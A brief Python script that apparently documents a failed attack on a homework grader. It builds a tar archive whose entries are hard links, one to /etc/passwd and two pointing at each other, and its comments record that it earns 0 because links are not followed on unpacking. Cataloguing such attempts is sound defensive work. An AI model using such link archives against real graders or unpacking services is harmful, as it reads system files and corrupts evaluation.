# attack: hand in hard links to files of the grader's machine, and to itself
# earns: 0
# stopped by: links are not followed on unpacking
import tarfile
from pathlib import Path


def build(path: Path) -> None:
    with tarfile.open(path, "w") as archive:
        for name, target in (
            ("hw3/gru.py", "/etc/passwd"),
            ("hw3/a.py", "hw3/b.py"),
            ("hw3/b.py", "hw3/a.py"),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = tarfile.LNKTYPE, target
            archive.addfile(member)
